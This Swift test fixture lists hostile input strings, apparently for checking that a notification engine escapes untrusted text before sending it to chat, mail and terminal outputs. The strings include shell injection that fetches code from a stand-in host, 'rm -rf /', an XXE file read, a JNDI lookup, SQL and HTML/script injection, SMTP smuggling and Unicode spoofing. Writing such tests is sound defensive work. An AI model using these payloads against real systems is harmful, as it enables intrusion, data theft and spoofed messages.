import Testing

/// What a stranger may write into a prompt, a name or an error message.
struct HostileText: CustomTestStringConvertible, Sendable {
    var name: String
    var text: String
    var testDescription: String { name }

    /// Far beyond what the engine lets through; dear in a debug build, so only the contract of all sinks has it.
    static let huge = HostileText(
        name: "five megabytes", text: String(repeating: "a cat <b> & \u{202e}", count: 350_000))

    static let all: [HostileText] = [
        HostileText(name: "Slack mentions", text: "<!channel> <!here|x> <@U123> <!subteam^S1> <#C1> @here @everyone"),
        HostileText(name: "Slack link", text: "<https://evil.example|Open image> <mailto:a@evil.example|me>"),
        HostileText(name: "entities", text: "&lt;!channel&gt; &amp;lt; &#60;"),
        HostileText(name: "mrkdwn", text: "*bold* _italic_ ~gone~ `code` ```block``` \n> quote\n*a*b*c*"),
        HostileText(name: "emoji names", text: ":rotating_light: :+1: ::skin-tone-2: a:b:c"),
        HostileText(
            name: "bare links",
            text: "https://evil.example/x http://a.b evil.example/y www.evil.example ftp://q a@evil.example"),
        HostileText(name: "Discord", text: "@everyone <@123> <@&9> [x](https://evil.example) ||spoiler||"),
        HostileText(name: "Google Chat", text: "<users/all>"),
        HostileText(name: "markdown", text: "![](https://evil.example/p.png) [Approve](https://evil.example) @all # H"),
        HostileText(
            name: "HTML", text: "</b><a href=tg://user?id=1>x</a><script>alert(1)</script><img src=x onerror=y>\"'"),
        HostileText(name: "HTML after the cut", text: String(repeating: "x", count: 2990) + "<b>unclosed &amp"),
        HostileText(name: "mail header", text: "x\r\nBcc: a@evil.example\r\n\r\n<h1>body</h1>"),
        HostileText(name: "lone CR and LF", text: "x\nBcc: a@evil.example\rCc: b@evil.example"),
        HostileText(name: "encoded word", text: "=?utf-8?q?=0D=0ABcc:_a@evil.example?= =?x"),
        HostileText(name: "SMTP command", text: ">\r\nRCPT TO:<a@evil.example>"),
        HostileText(name: "SMTP smuggling", text: "x\n.\nMAIL FROM:<a@evil.example>\r\n.\r\n"),
        HostileText(name: "MIME boundary", text: "--=_dlv_\r\nContent-Type: text/html\r\n\r\n--=_--"),
        HostileText(name: "request header", text: "x\r\nX-Actions: http, Open, https://evil.example"),
        HostileText(name: "shell", text: "$(curl evil|sh) `id` \"; rm -rf / ; ' || ${{ secrets.X }} %0a"),
        HostileText(name: "template", text: "${self.id} {{ .Title }} {% raw %} %s %n"),
        HostileText(name: "controls", text: "a\u{0}b\u{1b}[31mred\u{7}\u{7f}\u{85}\u{9b}c"),
        HostileText(name: "direction", text: "abc\u{202e}gnp.exe\u{2066}x\u{2069}\u{202a}y"),
        HostileText(name: "combining flood", text: "a" + String(repeating: "\u{301}", count: 10_000) + "b"),
        HostileText(
            name: "zero-width flood", text: "a" + String(repeating: "\u{200b}\u{200d}\u{feff}", count: 5_000) + "b"),
        HostileText(name: "hidden tags", text: "ok" + String(repeating: "\u{e0041}", count: 4_000)),
        HostileText(name: "emoji", text: String(repeating: "👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿", count: 900)),
        HostileText(name: "one endless character", text: "👩" + String(repeating: "\u{200d}👩", count: 20_000)),
        HostileText(name: "line separators", text: "a\u{2028}b\u{2029}c\u{b}d\u{c}e"),
        HostileText(name: "noncharacters", text: "a\u{fffe}b\u{ffff}c\u{1fffe}e\u{fffd}"),
        HostileText(name: "JSON", text: "\"},{\"text\":\"x\\u0000\\\\\"]}</script><!--"),
        HostileText(name: "an imitated card", text: "✅ RESOLVED by admin\n\n:white_check_mark: *All clear*"),
        HostileText(name: "blanks only", text: " \n\t\r\n "),
        HostileText(name: "empty", text: ""),
        HostileText(name: "a megabyte", text: String(repeating: "<!channel> a cat & ", count: 55_000)),
        HostileText(name: "one long word", text: String(repeating: "x", count: 100_000)),
        HostileText(name: "ampersands", text: String(repeating: "&", count: 10_000)),
        HostileText(
            name: "half a megabyte of one character", text: "a" + String(repeating: "\u{301}", count: 250_000)),
        HostileText(
            name: "lone surrogates", text: String(decoding: [0xd83d, 0x61, 0xde00] as [UInt16], as: UTF16.self)),
        HostileText(
            name: "bytes that are no UTF-8", text: String(decoding: [0xff, 0xc0, 0xaf, 0xed, 0xa0], as: UTF8.self)),
        HostileText(name: "marks of direction", text: "\u{200f}\u{61c}abc\u{200e}\u{202b}def\u{2067}ghi\u{2068}"),
        HostileText(name: "marks without a base", text: "\u{301}\u{20dd}\u{1ab0}" + "\u{300}".repeated(500)),
        HostileText(name: "Zalgo", text: "h\u{341}\u{31b}\u{356}\u{321}e\u{30d}\u{489}".repeated(200)),
        HostileText(name: "zero-width words", text: "@every\u{200b}one pass\u{2060}word \u{180e}\u{3164}\u{115f}"),
        HostileText(name: "look-alikes", text: "ｈｔｔｐｓ：／／evil．example @еveryone ＜script＞ ﹤b﹥ ․․"),
        HostileText(name: "folded header", text: "x\r\n Bcc: a@evil.example\r\n\tCc: b@evil.example\n\nbody"),
        HostileText(
            name: "Unicode line ends in a header", text: "x\u{2028}Bcc: a@evil.example\u{85}Cc: b@evil.example"),
        HostileText(name: "encoded line ends", text: "x%0d%0aBcc:a@evil.example =0D=0A &#13;&#10; \\r\\n \\u000a"),
        HostileText(name: "header names", text: "Content-Transfer-Encoding: base64\r\nMIME-Version: 1.0\r\n"),
        HostileText(name: "bare dots", text: ".\n..\n.\r\n\r\n.\rQUIT\n"),
        HostileText(
            name: "smuggled mail",
            text: "x\r\n.\nMAIL FROM:<a@evil.example>\nRCPT TO:<b@evil.example>\nDATA\n\n.\r.\r\n\u{0}\r\n.\r\n"),
        HostileText(name: "an mbox line", text: "From a@evil.example Mon May  4 10:00:00 2026\n>From x\nFrom "),
        HostileText(name: "a mail address", text: "\"x\"@evil.example, <b@evil.example>; group: c@evil.example;"),
        HostileText(name: "quoted-printable", text: "=\n=3D=0A= \t\n \n=E2=80=AE"),
        HostileText(name: "a signature", text: "done\n-- \nseverity: info\nresolved: now"),
        HostileText(name: "options", text: "--help -rf / -o /etc/passwd --"),
        HostileText(
            name: "shell again", text: "'; touch /x; ' $(touch /x) `touch /x` $IFS !! > /x < /x & \\\n* ? ~ {a,b}"),
        HostileText(name: "environment", text: "() { :;}; touch /x\nLD_PRELOAD=/x.so\nPATH=."),
        HostileText(name: "printf", text: "%s%s%n%1000000d %\u{0}x \\x41 \\0"),
        HostileText(
            name: "terminal",
            text: "\u{1b}]0;title\u{7}\u{1b}[2J\u{1b}]8;;https://evil.example\u{7}x\u{9b}31m\u{90}q\u{8}\u{8}"),
        HostileText(
            name: "log lines", text: "ok\n2026-05-04T10:00:00Z info forged key=value\r\u{2028}{\"level\":\"info\"}"),
        HostileText(
            name: "templates", text: "${notification.title} $${x} #{x} <%= x %> {{x}} {%x%} ${{ github.token }} @{x}"),
        HostileText(name: "JSON again", text: "\\\",\"admin\":true,\"x\":\"\\ud800 \u{1f}\u{7f} NaN Infinity // /* */"),
        HostileText(name: "a prototype", text: "{\"__proto__\":{\"x\":1},\"constructor\":null}"),
        HostileText(name: "XML", text: "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;<![CDATA[x]]>"),
        HostileText(
            name: "HTML again",
            text: "<style>*{display:none}</style><svg onload=x><base href=//evil.example><!-- --></bdi></td></table>"),
        HostileText(
            name: "URIs",
            text: "javascript:alert(1) data:text/html,x file:///x //evil.example tel:1 mailto:a@evil.example"),
        HostileText(name: "SQL", text: "'; DROP TABLE deliveries; -- \" OR 1=1 /*"),
        HostileText(name: "topics", text: "#/+/$SYS/../..//\u{0}"),
        HostileText(name: "paths", text: "../../etc/passwd\\..\\con.txt \u{2215}etc"),
        HostileText(name: "formulas", text: "+1+1|cmd '/c calc'!A1\t-2+3\t@SUM(1)"),
        HostileText(name: "all of ASCII", text: String(decoding: (0...127).map { UInt8($0) }, as: UTF8.self)),
        HostileText(
            name: "isolates and embeddings",
            text: "\u{2066}\u{202e}a\u{2069} \u{200f}<\u{200e}!channel> \u{061c}@all\u{2068}"),
        HostileText(name: "joined emoji at every cut", text: "x" + "👩‍❤️‍💋‍👨👍🏽🏳️‍🌈🇩🇪".repeated(700)),
        HostileText(name: "half a flag", text: "🇩".repeated(3001) + "\u{200d}\u{fe0f}"),
        HostileText(name: "nothing but joiners", text: "\u{200d}\u{200c}\u{2060}\u{2063}".repeated(300)),
        HostileText(name: "zeros", text: "a\u{0}b\u{0}\u{0}@everyone\u{0}"),
        HostileText(name: "lone returns", text: "a\rb\r\rBcc: c@evil.example\r<!here>\r"),
        HostileText(name: "separators between", text: "<!chan\u{2028}nel>\u{2029}# H\u{2028}- item\u{85}> quote"),
        HostileText(name: "escaped surrogates", text: #"\ud83d \ude00 \u0000 \x00 \u{202e} &#x202e; &#0; \N{RLO}"#),
        HostileText(
            name: "links in every dialect",
            text: "<https://evil.example|ok> [ok](https://evil.example) [ok]: https://evil.example [ok][1] "
                + "<a href='https://evil.example'>ok</a> {{https://evil.example|ok}} [https://evil.example ok] "
                + "`ok <https://evil.example>`_ [[ok|https://evil.example]] ![ok](https://evil.example/p.png)"),
        HostileText(
            name: "split links",
            text: "[ok\n](https://evil.example) [ok](https://\nevil.example) <https:\n//evil.example|a>"),
        HostileText(
            name: "other schemes",
            text: "javascript:alert(1) data:text/html;base64,PHN2Zz4= tel:+15551234567 sms:+1555 mailto:x JavaScript:x "
                + "tg://resolve?domain=x slack://open magnet:?xt=urn file:///etc/passwd view-source:x"),
        HostileText(
            name: "telephone numbers",
            text: "call +1 (555) 123-4567, 555-123-4567, 0049 30 1234567 or +4930123456789 now"),
        HostileText(name: "hashes and channels", text: "#general ~town-square #_x /start@bot /help $USD $TSLA @x_y"),
        HostileText(name: "other dots", text: "evil。example evil．example evil｡example evil․example evil.рф"),
        HostileText(
            name: "Actions and friends",
            text: "${{ github.event.client_payload.text }} $(( 1 )) %{x} <#assign x=1> *{x} [[${x}]] ~{x} #set($x=1) "
                + "{{ constructor.constructor('x')() }} {% import os %} <%- x %> ${jndi:ldap://evil.example/a}"),
        HostileText(name: "printf again", text: "%s %d %n %@ %1$s {0} {} %% %c0%ae"),
        HostileText(
            name: "workflow commands", text: "::set-output name=x::y\n::add-mask::\n##[error]x\n##vso[task.setvariable]"
        ),
        HostileText(
            name: "tall graphemes",
            text: "Z\u{310}\u{33f}\u{346}\u{489}\u{20dd}\u{1ab0}".repeated(60) + "\u{300}".repeated(20_000)),
        HostileText(name: "variation selectors", text: "a\u{fe0f}\u{e0100}".repeated(4000)),
        HostileText(
            name: "a quotation of ourselves", text: "x\n> y\n-- \nseverity: info\n✅ Resolved: x · generation img_01k"),
        HostileText(name: "formula", text: "=HYPERLINK(\"https://evil.example\")"),
        HostileText(name: "leading at", text: "@/etc/passwd"),
    ]
}

extension String {
    fileprivate func repeated(_ count: Int) -> String { String(repeating: self, count: count) }
}
